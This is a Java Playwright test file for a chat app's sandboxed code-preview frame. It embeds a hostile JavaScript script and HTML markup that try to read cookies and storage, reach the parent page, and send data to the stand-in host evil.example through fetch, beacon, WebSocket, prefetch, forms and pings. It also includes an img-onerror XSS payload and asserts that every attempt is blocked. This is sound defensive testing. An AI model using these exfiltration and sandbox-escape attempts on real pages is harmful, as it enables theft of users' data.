package runnel.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.options.AriaRole;
import java.io.IOException;
import java.nio.file.Files;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import runnel.Client;
import runnel.upstream.openai.Scenarios;

/// Code of a reply is wrapped, kept as a file, and shown as it looks in a frame that reaches nothing, whatever it tries.
class CodePreviewTest extends PageTest {
    /// What a script in the frame tries; each line says how it went.
    private static final String ATTACKS = """
            const say = (name, text) => document.querySelector('pre').append(name + ': ' + text + '\\n');
            const attempt = (name, act) => { try { say(name, String(act())) } catch (error) { say(name, error.name) } };
            attempt('origin', () => origin);
            attempt('cookie', () => document.cookie);
            attempt('localStorage', () => localStorage.length);
            attempt('indexedDB', () => indexedDB.open('x'));
            attempt('parent', () => parent.document.title);
            attempt('parent storage', () => top.localStorage.length);
            attempt('top', () => { top.location = '/api/me'; });
            attempt('popup', () => open('/'));
            attempt('WebRTC', () => typeof RTCPeerConnection + typeof webkitRTCPeerConnection);
            attempt('WebRTC of a frame', () => document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection);
            const inner = document.createElement('iframe');
            inner.srcdoc = '<script>parent.postMessage(typeof RTCPeerConnection, "*")<' + '/script>';
            onmessage = ({ data }) => say('WebRTC of a document in it', data);
            document.body.append(inner);
            const frames = '<iframe srcdoc="' + inner.srcdoc.replaceAll('"', '&quot;') + '"></iframe>';
            attempt('shadow root', () => document.body.attachShadow({ mode: 'closed' }));
            for (const piece of ['<div><template shadow', 'rootmode="closed">' + frames, '</template></div>']) document.write(piece);
            for (const { prototype: owner } of [Element, NodeList, Document, MutationObserver, Function]) {
              for (const name of ['remove', 'forEach', 'querySelectorAll', 'observe', 'call', 'apply']) owner[name] = () => [];
            }
            document.querySelector('p').innerHTML = frames;
            attempt('beacon', () => { navigator.sendBeacon('https://evil.example/beacon', 'x'); });
            attempt('import', () => { import('https://evil.example/import.js').catch((error) => say('import', error.name)); });
            attempt('eval', () => eval('1'));
            attempt('socket', () => { new WebSocket('wss://evil.example/socket').onerror = () => say('socket', 'closed'); });
            attempt('worker', () => { new Worker(URL.createObjectURL(new Blob(['']))).onerror = () => say('worker', 'refused'); });
            for (const address of ['/api/me', 'https://evil.example/fetch']) {
              fetch(address, { mode: 'no-cors', credentials: 'include' }).then(() => say('fetch', 'reached'), (error) => say('fetch', error.name));
            }
            parent.postMessage({ text: 'from the frame' }, '*');
            document.querySelector('button').click();
            document.querySelector('a').click();
            setTimeout(say, 800, 'the end', '');
            """;
    private static final String MARKUP = """
            <!doctype html><title>Secret</title><h1>Shown</h1><pre></pre><p></p>
            <div><template shadowrootmode="closed"><iframe src="https://evil.example/shadow"></iframe></template></div>
            <script type="speculationrules">{"prefetch": [{"urls": ["https://evil.example/ahead"], "eagerness": "immediate"}]}</script>
            <link rel="prefetch" href="https://evil.example/prefetch"><link rel="preload" as="image" href="https://evil.example/preload">
            <link rel="stylesheet" href="https://evil.example/style.css"><link rel="preconnect" href="https://evil.example">
            <link rel="dns-prefetch" href="https://evil.example"><style>h1 { background: url(https://evil.example/back.png) }</style>
            <img src="https://evil.example/image.png"><video src="https://evil.example/video"></video><iframe src="https://evil.example/frame"></iframe>
            <object data="https://evil.example/object"></object><base href="https://evil.example/"><script src="https://evil.example/script.js"></script>
            <form action="https://evil.example/form" method="post" target="_blank"><button>Go</button></form>
            <a href="https://evil.example/a" target="_top" ping="https://evil.example/ping">Go</a>
            """;

    private Locator show(String... blocks) {
        model.next(Scenarios.deltas(String.join("\n", blocks)));
        send("Show me code");
        assertEnded(page);
        return page.locator(".code-block");
    }

    private static Locator press(Locator block, String name) {
        var button = block.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(name).setExact(true));
        button.click();
        return button;
    }

    private static FrameLocator frame(Locator block) {
        return block.frameLocator("iframe");
    }

    @Test
    void what_is_shown_runs_and_reaches_neither_the_page_nor_the_network() {
        List<String> left = new CopyOnWriteArrayList<>();
        context.onRequestFinished(request -> left.add(request.url()));
        context.onPage(popup -> left.add("popup " + popup.url()));
        var address = page.url();
        var block = show("```html", MARKUP + "<script>" + ATTACKS + "</script>", "```").first();
        context.route("https://evil.example/**", route -> {
            left.add("asked " + route.request().url());
            route.abort();
        });
        press(block, "Preview");
        var said = frame(block).locator("pre");
        assertThat(said).containsText("the end:");
        var lines = List.of(said.innerText().split("\n"));
        for (var refused : List.of("cookie", "localStorage", "indexedDB", "parent", "parent storage", "top", "WebRTC of a frame")) {
            assertTrue(lines.contains(refused + ": SecurityError"), () -> refused + " in " + lines);
        }
        assertTrue(lines.containsAll(List.of("origin: null", "popup: null", "WebRTC: undefinedundefined", "eval: EvalError", "import: TypeError",
                "shadow root: TypeError")), lines::toString);
        assertEquals(2, lines.stream().filter("fetch: TypeError"::equals).count(), lines::toString);
        assertTrue(lines.stream().noneMatch(line -> line.startsWith("WebRTC of a document")), lines::toString);
        said.evaluate("() => { location = 'https://evil.example/?' + encodeURIComponent(document.title) }");
        page.waitForTimeout(1_500);
        assertEquals(List.of(), left.stream().filter(url -> url.contains("evil.example") || url.startsWith("popup")).toList());
        assertThat(replies(page)).hasCount(1);
        assertTrue(page.url().startsWith(address + "c/"), page.url());
        forgive("");
    }

    @Test
    void the_frame_is_given_nothing_but_its_policy() {
        var answer = client.get("/preview");
        assertEquals("sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; img-src data: blob:",
                answer.headers().firstValue("Content-Security-Policy").orElse(""));
        assertEquals("SAMEORIGIN", answer.headers().firstValue("X-Frame-Options").orElse(""));
        assertEquals("DENY", client.get("/").headers().firstValue("X-Frame-Options").orElse(""));
    }

    @Test
    void a_diagram_is_drawn_and_one_that_is_wrong_says_so() {
        var blocks = show("```mermaid", "sequenceDiagram", "  Alice->>Bob: Hello <img src=x onerror=alert(1)>", "```", "",
                "```mermaid", "graph LR", "  A --", "```");
        press(blocks.first(), "Preview");
        assertThat(frame(blocks.first()).locator("svg")).containsText("Hello <img");
        assertThat(frame(blocks.first()).locator("img")).hasCount(0);
        press(blocks.last(), "Preview");
        assertThat(frame(blocks.last()).locator("body")).containsText("Parse error");
    }

    @Test
    void an_image_is_drawn_and_code_is_wrapped_kept_as_a_file_and_copied() throws IOException {
        var blocks = show("```svg", "<svg viewBox='0 0 10 10'><circle r='5'/><script>document.title = 'ran'</script></svg>", "```",
                "", "```python", "# tools/app.py", "print(" + "'long', ".repeat(60) + ")", "```");
        var preview = press(blocks.first(), "Preview");
        assertThat(preview).hasAttribute("aria-pressed", "true");
        assertThat(frame(blocks.first()).locator("svg circle")).isVisible();
        assertThat(blocks.first().locator("> pre")).isHidden();
        press(blocks.first(), "Preview");
        assertThat(blocks.first().locator("iframe")).hasCount(0);
        assertThat(blocks.first().locator("> pre")).isVisible();

        var code = blocks.last().locator("> pre");
        assertTrue((boolean) code.evaluate("pre => pre.scrollWidth > pre.clientWidth"));
        press(blocks.last(), "Wrap lines");
        assertTrue((boolean) code.evaluate("pre => pre.scrollWidth <= pre.clientWidth"));
        assertThat(blocks.last().getByText("Preview")).hasCount(0);
        var download = page.waitForDownload(() -> press(blocks.last(), "Download"));
        assertEquals("app.py", download.suggestedFilename());
        assertTrue(Files.readString(download.path()).startsWith("# tools/app.py\nprint('long'"));
        assertTrue(Client.json(client.get("/api/chats")).get("chats").size() == 1);
    }
}
